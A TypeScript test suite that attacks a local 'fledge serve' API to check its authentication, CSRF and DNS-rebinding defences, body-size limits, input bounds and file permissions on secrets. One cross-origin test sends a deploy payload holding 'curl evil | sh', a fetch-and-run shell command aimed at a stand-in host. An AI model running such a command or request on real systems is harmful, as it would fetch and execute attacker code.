// A real `fledge serve`, probed as an attacker on the same machine would: calls without a
// token, with a wrong one and with one too weak on every route (the table comes from the
// app's route list, so a new route cannot be forgotten); a browser page's text/plain POST from
// another origin; DNS rebinding (a foreign Host) on the API, the event stream and the UI;
// oversized bodies, extreme numbers and lengths; secrets on disk; --no-auth. Every refused
// call changes nothing in the store. Loopback only; every wait is bounded.
import http from 'node:http';
import net from 'node:net';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { ROUTE_ACCESS } from '../../src/api/access.ts';
import { roleAllows, type Role } from '../../src/auth/roles.ts';
import { nodeEval } from '../helpers/example-service.ts';
import {
  cleanup,
  leakedProcesses,
  seenProcessCount,
  spawnServe,
  startFledgeProcess,
  tempDataDir,
  trackProcessGroup,
  type FledgeProcess,
} from '../helpers/fledge-process.ts';
import { freePort, reservePorts } from '../helpers/ports.ts';
import { runCli } from '../helpers/run-cli.ts';
import { waitFor } from '../helpers/wait-for.ts';

const PORTS = reservePorts(50);

interface Answer {
  status: number;
  headers: http.IncomingHttpHeaders;
  body: string;
}

interface RawOptions {
  method?: string;
  headers?: Record<string, string>;
  body?: string;
  /** resolve as soon as the status line is in (event streams) */
  headOnly?: boolean;
}

/** One request with exactly these headers (fetch cannot set Host); bounded by 10 s. */
function raw(url: string, pathname: string, options: RawOptions = {}): Promise<Answer> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve, reject) => {
    const req = http.request(
      {
        host: hostname,
        port,
        path: pathname,
        method: options.method ?? 'GET',
        // Node frames a DELETE body only when told its length
        headers: {
          ...(options.body !== undefined ? { 'content-length': String(Buffer.byteLength(options.body)) } : {}),
          ...options.headers,
        },
        agent: false,
      },
      (res) => {
        if (options.headOnly) {
          resolve({ status: res.statusCode ?? 0, headers: res.headers, body: '' });
          req.destroy();
          return;
        }
        let body = '';
        res.on('data', (c: Buffer) => (body += c.toString('utf8')));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
        res.on('error', reject);
      },
    );
    req.setTimeout(10_000, () => req.destroy(new Error(`${options.method ?? 'GET'} ${pathname} timed out`)));
    req.on('error', reject);
    req.end(options.body);
  });
}

const bearer = (token: string) => ({ authorization: `Bearer ${token}` });

/** What a refused call must not have changed (the audit log aside, which records it). */
async function storeState(fledge: FledgeProcess): Promise<string> {
  const c = fledge.client;
  const [requests, pending, tasks, tokens] = await Promise.all([c.listRequests(), c.pendingDeploys(), c.activeTasks(), c.listTokens()]);
  return JSON.stringify({
    requests: requests.map((r) => [r.request, r.state, r.requestDeployState]),
    pending,
    tasks: tasks.map((t) => t.taskId.id),
    tokens: tokens.map((t) => [t.name, t.role]),
  });
}

afterAll(async () => {
  await cleanup();
  expect(seenProcessCount()).toBeGreaterThan(0);
  expect(leakedProcesses()).toEqual([]);
});

describe('every route × every credential', () => {
  let fledge: FledgeProcess;
  const tokens: Partial<Record<Role, string>> = {};
  beforeAll(async () => {
    fledge = await startFledgeProcess({ portRange: PORTS });
    await fledge.client.createRequest({ id: 'web', requestType: 'WORKER', instances: 1 });
    tokens.read = (await fledge.client.createToken('viewer', 'read')).token;
    tokens.deploy = (await fledge.client.createToken('ci', 'deploy')).token;
    tokens.admin = fledge.token;
  });
  afterAll(() => cleanup());

  const routes = Object.entries(ROUTE_ACCESS).map(([key, access]) => {
    const [method = 'GET', pattern = '/'] = key.split(' ');
    // Ids nothing has: a call that gets through answers 4xx and changes nothing either.
    const pathname = pattern === '/*' ? '/requests/web' : pattern.replace(/:[A-Za-z]+/g, 'nosuch');
    return { key, method, pathname, access };
  });
  const credentials = ['none', 'wrong', 'read', 'deploy', 'admin'] as const;

  it(`answers as the table says (${routes.length} routes × ${credentials.length} credentials), and refusals change nothing`, async () => {
    const before = await storeState(fledge);
    const wrong: string[] = [];
    const table: string[] = [];
    for (const route of routes) {
      for (const credential of credentials) {
        const headers: Record<string, string> = { accept: 'application/json' };
        if (credential === 'wrong') Object.assign(headers, bearer(`fl_${'A'.repeat(43)}`));
        else if (credential !== 'none') Object.assign(headers, bearer(tokens[credential] as string));
        const hasBody = route.method !== 'GET';
        if (hasBody) headers['content-type'] = 'application/json';
        const res = await raw(fledge.url, route.pathname, {
          method: route.method,
          headers,
          ...(hasBody ? { body: '{}' } : {}),
          headOnly: route.key === 'GET /api/events',
        });
        const { role } = route.access;
        const expected =
          role === 'public'
            ? 'open'
            : credential === 'none' || credential === 'wrong'
              ? 401
              : roleAllows(credential, role)
                ? 'allowed'
                : 403;
        const ok = expected === 'open' || expected === 'allowed' ? res.status !== 401 && res.status !== 403 : res.status === expected;
        if (expected === 401 && res.headers['www-authenticate'] === undefined)
          wrong.push(`${route.key} ${credential}: no WWW-Authenticate`);
        if (expected === 403 && !res.body.includes(`needs a token with role ${role}`))
          wrong.push(`${route.key} ${credential}: 403 names no role`);
        if (!ok) wrong.push(`${route.key} as ${credential}: expected ${expected}, got ${res.status} ${res.body.slice(0, 120)}`);
        table.push(`${route.key} ${credential} ${res.status}`);
      }
    }
    expect(wrong).toEqual([]);
    expect(table).toHaveLength(routes.length * credentials.length);
    expect(await storeState(fledge)).toBe(before);

    // Every refused write is in the audit log (and no refused read).
    const audit = await fledge.client.audit({ limit: 1000 });
    const audited = routes.filter((r) => r.access.audit);
    const refusals = (status: number) => audit.filter((a) => a.status === status).length;
    expect(refusals(401)).toBe(audited.length * 2);
    const weaker = (role: Role) => (['read', 'deploy'] as const).filter((c) => !roleAllows(c, role)).length;
    expect(refusals(403)).toBe(audited.reduce((n, r) => n + weaker(r.access.role as Role), 0));
    expect(audit.filter((a) => a.status === 403).every((a) => a.tokenName === 'viewer' || a.tokenName === 'ci')).toBe(true);
    expect(audit.every((a) => a.method !== 'GET')).toBe(true);
  });
});

describe('browsers and other hosts', () => {
  let fledge: FledgeProcess;
  beforeAll(async () => {
    fledge = await startFledgeProcess({ portRange: PORTS });
    await fledge.client.createRequest({ id: 'web', requestType: 'WORKER', instances: 1 });
  });
  afterAll(() => cleanup());

  it('refuses the text/plain POST a foreign page sends without preflight (403), with or without a token, and stores nothing', async () => {
    const before = await storeState(fledge);
    const evil = JSON.stringify({ deploy: { requestId: 'web', id: 'pwned', command: 'curl evil | sh' } });
    for (const headers of [{}, bearer(fledge.token)]) {
      const res = await raw(fledge.url, '/api/deploys', {
        method: 'POST',
        headers: { ...headers, 'content-type': 'text/plain', origin: 'https://evil.example' },
        body: evil,
      });
      expect(res.status).toBe(403);
    }
    // and the same from a page without Origin: not JSON, so 415
    const bare = await raw(fledge.url, '/api/deploys', {
      method: 'POST',
      headers: { ...bearer(fledge.token), 'content-type': 'text/plain' },
      body: evil,
    });
    expect(bare.status).toBe(415);
    expect(await storeState(fledge)).toBe(before);
    expect((await fledge.client.deployHistory('web')).map((d) => d.deployMarker.deployId)).toEqual([]);
  });

  it.each([
    ['the API', '/api/requests'],
    ['the event stream', '/api/events'],
    ['the UI', '/'],
    ['a deep UI link', '/requests/web'],
  ])('answers 421 to a foreign Host (DNS rebinding) on %s, even with a valid token', async (_what, pathname) => {
    const res = await raw(fledge.url, pathname, {
      headers: { host: `rebind.evil.example:${new URL(fledge.url).port}`, ...bearer(fledge.token) },
    });
    expect(res.status).toBe(421);
    expect(res.body).not.toContain('web');
  });

  it('serves the UI and the event stream to its own origin', async () => {
    const ui = await raw(fledge.url, '/requests/web');
    expect(ui.status).toBe(200);
    expect(ui.headers['content-security-policy']).toMatch(/frame-ancestors 'none'/);
    const events = await raw(fledge.url, '/api/events', { headers: bearer(fledge.token), headOnly: true });
    expect(events.status).toBe(200);
    expect(events.headers['content-type']).toMatch(/text\/event-stream/);
  });

  it('answers /health to anyone, with nothing but its status', async () => {
    const res = await raw(fledge.url, '/health');
    expect(res.status).toBe(200);
    expect(JSON.parse(res.body)).toEqual({ status: 'ok' });
  });
});

describe('bounded inputs', () => {
  let fledge: FledgeProcess;
  beforeAll(async () => {
    fledge = await startFledgeProcess({ portRange: PORTS });
    await fledge.client.createRequest({ id: 'web', requestType: 'WORKER', instances: 1 });
  });
  afterAll(() => cleanup());

  const json = (fledgeToken: string) => ({ ...bearer(fledgeToken), 'content-type': 'application/json' });

  it('answers 413 to a 2 MiB body, and stores nothing', async () => {
    const before = await storeState(fledge);
    const body = JSON.stringify({ id: 'big', requestType: 'WORKER', owners: ['x'.repeat(2 * 1024 * 1024)] });
    const res = await raw(fledge.url, '/api/requests', { method: 'POST', headers: json(fledge.token), body });
    expect(res.status).toBe(413);
    expect(await storeState(fledge)).toBe(before);
  });

  it('stops reading a 50 MB chunked body at the limit: a 413, and the server does not grow', async () => {
    const rss = () => Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${fledge.pid}/status`, 'utf8'))?.[1] ?? 0) * 1024;
    const before = rss();
    const { port } = new URL(fledge.url);
    const answer = await new Promise<{ head: string; sent: number }>((resolve) => {
      const socket = net.connect(Number(port), '127.0.0.1');
      let head = '';
      let sent = 0;
      const size = 64 * 1024;
      // one chunk of the chunked encoding: size line, bytes, CRLF
      const chunk = Buffer.concat([Buffer.from(`${size.toString(16)}\r\n`), Buffer.alloc(size, 0x20), Buffer.from('\r\n')]);
      const done = () => resolve({ head, sent });
      socket.on('data', (c: Buffer) => {
        head += c.toString('latin1');
      });
      socket.on('close', done);
      socket.on('error', () => {});
      socket.setTimeout(10_000, () => socket.destroy());
      socket.write(
        `POST /api/requests HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${fledge.token}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`,
      );
      const pump = () => {
        while (sent < 50 * 1024 * 1024 && !socket.destroyed && head === '') {
          sent += size;
          if (!socket.write(chunk)) return void socket.once('drain', pump);
        }
        if (!socket.destroyed) socket.end();
      };
      pump();
    });
    expect(answer.head).toMatch(/^HTTP\/1\.1 413 /);
    // it answered long before the 50 MB were sent, and holds no copy of them
    expect(answer.sent).toBeLessThan(50 * 1024 * 1024);
    expect(rss() - before).toBeLessThan(40 * 1024 * 1024);
  });

  it.each([
    ['scale to 2147483648', 'PUT', '/api/requests/request/web/scale', { instances: 2147483648 }, 'instances'],
    ['scale above --max-instances', 'PUT', '/api/requests/request/web/scale', { instances: 1001 }, 'instances'],
    ['a request of 1001 instances', 'POST', '/api/requests', { id: 'many', requestType: 'WORKER', instances: 1001 }, 'instances'],
    [
      'deployHealthTimeoutSeconds 1e306',
      'POST',
      '/api/deploys',
      { deploy: { requestId: 'web', id: 'v1', command: 'true', deployHealthTimeoutSeconds: 1e306 } },
      'deploy.deployHealthTimeoutSeconds',
    ],
    [
      'a 31-day acceptance timeout',
      'POST',
      '/api/deploys',
      { deploy: { requestId: 'web', id: 'v1', command: 'true', acceptanceTimeoutSeconds: 31 * 86400 } },
      'deploy.acceptanceTimeoutSeconds',
    ],
    [
      'a 200,000-character env value',
      'POST',
      '/api/deploys',
      { deploy: { requestId: 'web', id: 'v1', command: 'true', env: { A: 'x'.repeat(200_000) } } },
      'deploy.env.A',
    ],
    [
      'an updatedRequest of 2147483648 instances',
      'POST',
      '/api/deploys',
      {
        deploy: { requestId: 'web', id: 'v1', command: 'true' },
        updatedRequest: { id: 'web', requestType: 'WORKER', instances: 2147483648 },
      },
      'updatedRequest.instances',
    ],
    [
      'a deploy update to 2147483648',
      'POST',
      '/api/deploys/update',
      { requestId: 'web', deployId: 'v1', targetActiveInstances: 2147483648 },
      'targetActiveInstances',
    ],
  ])('answers 400 naming the field to %s, and stores nothing', async (_what, method, pathname, body, field) => {
    const before = await storeState(fledge);
    const res = await raw(fledge.url, pathname, { method, headers: json(fledge.token), body: JSON.stringify(body) });
    expect(res.status).toBe(400);
    expect((JSON.parse(res.body) as { details: { field: string }[] }).details.map((d) => d.field)).toContain(field);
    expect(await storeState(fledge)).toBe(before);
  });

  it('answers an invalid 50,000-item array with a short 400', async () => {
    const body = JSON.stringify({
      deploy: { requestId: 'web', id: 'v1', command: 'true', arguments: Array.from({ length: 50_000 }, () => 5) },
    });
    const res = await raw(fledge.url, '/api/deploys', { method: 'POST', headers: json(fledge.token), body });
    expect(res.status).toBe(400);
    expect(res.body.length).toBeLessThan(10_000);
    expect((JSON.parse(res.body) as { details: unknown[] }).details.length).toBeLessThanOrEqual(21);
  });
});

describe('secrets at rest and the admin token', () => {
  afterEach(() => cleanup());

  it('keeps the data dir, database, token file and task sandboxes to their owner, and never logs the token', async () => {
    const fledge = await startFledgeProcess({ portRange: PORTS });
    const mode = (p: string) => (statSync(p).mode & 0o777).toString(8);
    await fledge.client.createRequest({ id: 'worker', requestType: 'WORKER', instances: 1 });
    await fledge.client.createDeploy({
      deploy: { requestId: 'worker', id: 'v1', command: nodeEval('setInterval(() => {}, 1000)'), env: { DB_PASSWORD: 's3cret' } },
    });
    const sandbox = await waitFor(
      () => {
        const dir = path.join(fledge.dataDir, 'tasks');
        const name = existsSync(dir) ? readdirSync(dir)[0] : undefined;
        return name && existsSync(path.join(dir, name, 'task.json')) ? path.join(dir, name) : undefined;
      },
      { timeoutMs: 20_000, message: 'a task sandbox with its task.json' },
    );
    expect(mode(fledge.dataDir)).toBe('700');
    expect(mode(path.join(fledge.dataDir, 'admin.token'))).toBe('600');
    for (const f of ['fledge.db', 'fledge.db-wal', 'fledge.db-shm']) expect(mode(path.join(fledge.dataDir, f)), f).toBe('600');
    expect(mode(sandbox)).toBe('700');
    for (const f of ['task.json', 'stdout', 'stderr']) expect(mode(path.join(sandbox, f)), f).toBe('600');
    expect(readFileSync(path.join(sandbox, 'task.json'), 'utf8')).toContain('s3cret');

    // The log says where the token is, never the token.
    expect(fledge.output()).toContain(path.join(fledge.dataDir, 'admin.token'));
    expect(fledge.output()).not.toContain(fledge.token);
  });

  it('keeps the admin token across restarts, and adds a token file the store does not know', async () => {
    const dataDir = tempDataDir();
    const first = await startFledgeProcess({ dataDir, portRange: PORTS });
    const token = first.token;
    first.kill('SIGTERM');
    await first.waitExit();
    const second = await startFledgeProcess({ dataDir, portRange: PORTS });
    expect(second.token).toBe(token);
    expect((await second.client.whoami()).name).toBe('admin');
    // Revoked, the file's token is known again at the next start (the file is the way in).
    await second.client.revokeToken('admin');
    expect((await raw(second.url, '/api/requests', { headers: bearer(token) })).status).toBe(401);
    second.kill('SIGTERM');
    await second.waitExit();
    const third = await startFledgeProcess({ dataDir, portRange: PORTS });
    expect((await third.client.whoami()).name).toBe('admin');
  });
});

describe('the CLI finds its token', () => {
  let home: string;
  let fledge: FledgeProcess;
  beforeAll(async () => {
    // As in the README: `fledge serve` in a directory, the CLI run from the same directory.
    home = mkdtempSync(path.join(tmpdir(), 'fledge-home-'));
    fledge = await startFledgeProcess({ dataDir: path.join(home, '.fledge'), portRange: PORTS });
  });
  afterAll(async () => {
    await cleanup();
    rmSync(home, { recursive: true, force: true });
  });

  it('in ./.fledge/admin.token of its working directory, with nothing set', async () => {
    const res = await runCli(['whoami'], { url: fledge.url, cwd: home });
    expect(res.stderr).toBe('');
    expect(res.stdout).toMatch(/name\s+admin\nrole\s+admin/);
  });

  it('says what to do when no token is found or one is refused', async () => {
    const none = await runCli(['request', 'list'], { url: fledge.url, cwd: tmpdir() });
    expect(none.code).toBe(6); // token refused or too weak (docs/cli.md)
    expect(none.stderr).toMatch(/This call needs a token/);
    expect(none.stderr).toMatch(/no token: pass --token, set FLEDGE_TOKEN, or point --data-dir/);
    const wrong = await runCli(['request', 'list'], { url: fledge.url, cwd: home, env: { FLEDGE_TOKEN: `fl_${'B'.repeat(43)}` } });
    expect(wrong.code).toBe(6); // token refused or too weak (docs/cli.md)
    expect(wrong.stderr).toMatch(/the token in FLEDGE_TOKEN was refused/);
  });

  it('makes a token once, lists tokens without secrets, refuses a weak one with the role needed, revokes', async () => {
    const made = await runCli(['token', 'create', '--role', 'read', '--name', 'viewer'], { url: fledge.url, cwd: home });
    expect(made.code, made.stderr).toBe(0);
    const token = made.stdout.trim();
    expect(token).toMatch(/^fl_[A-Za-z0-9_-]{43}$/);
    expect(made.stderr).toMatch(/shown only now/);

    const list = await runCli(['token', 'list'], { url: fledge.url, cwd: home });
    expect(list.stdout).toMatch(/viewer\s+read/);
    expect(list.stdout).not.toContain(token);

    const refused = await runCli(['request', 'scale', 'x', '2'], { url: fledge.url, cwd: home, env: { FLEDGE_TOKEN: token } });
    expect(refused.code).toBe(6); // token refused or too weak (docs/cli.md)
    expect(refused.stderr).toMatch(/needs a token with role deploy \(or admin\); token viewer has role read/);
    const read = await runCli(['request', 'list', '--token', token], { url: fledge.url, cwd: tmpdir() });
    expect(read.code, read.stderr).toBe(0);

    expect((await runCli(['token', 'revoke', 'viewer'], { url: fledge.url, cwd: home })).code).toBe(0);
    const after = await runCli(['request', 'list', '--token', token], { url: fledge.url, cwd: tmpdir() });
    expect(after.code).toBe(6); // token refused or too weak (docs/cli.md)
    expect(after.stderr).toMatch(/the token given with --token was refused/);

    const audit = await runCli(['audit', '--token-name', 'admin'], { url: fledge.url, cwd: home });
    expect(audit.stdout).toMatch(/DELETE \/api\/tokens\/viewer/);
  });
});

describe('--no-auth', () => {
  afterEach(() => cleanup());

  it('is refused unless the API listens on a loopback address', async () => {
    const serve = spawnServe({
      dataDir: tempDataDir(),
      port: await freePort(),
      lbPort: await freePort(),
      args: ['--no-auth', '--host', '0.0.0.0'],
    });
    trackProcessGroup(serve.pid, 'fledge serve --no-auth');
    const exit = await Promise.race([serve.exit, new Promise<'running'>((r) => setTimeout(() => r('running'), 20_000))]);
    expect(exit).not.toBe('running');
    expect(exit === 'running' ? 0 : exit.code).not.toBe(0);
    expect(serve.output()).toMatch(/Invalid no-auth \(FLEDGE_NO_AUTH\): the API would listen on 0\.0\.0\.0/);
  });

  it('on loopback, warns at every start, needs no token, and still refuses foreign hosts and origins', async () => {
    const fledge = await startFledgeProcess({ args: ['--no-auth'], portRange: PORTS });
    expect(fledge.output()).toMatch(/authentication is OFF/);
    const res = await raw(fledge.url, '/api/requests', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: '{"id":"a","requestType":"WORKER"}',
    });
    expect(res.status).toBe(200);
    expect((await raw(fledge.url, '/api/requests', { headers: { host: 'evil.example' } })).status).toBe(421);
    const cross = await raw(fledge.url, '/api/requests', {
      method: 'POST',
      headers: { 'content-type': 'text/plain', origin: 'https://evil.example' },
      body: '{"id":"b","requestType":"WORKER"}',
    });
    expect(cross.status).toBe(403);
  });
});
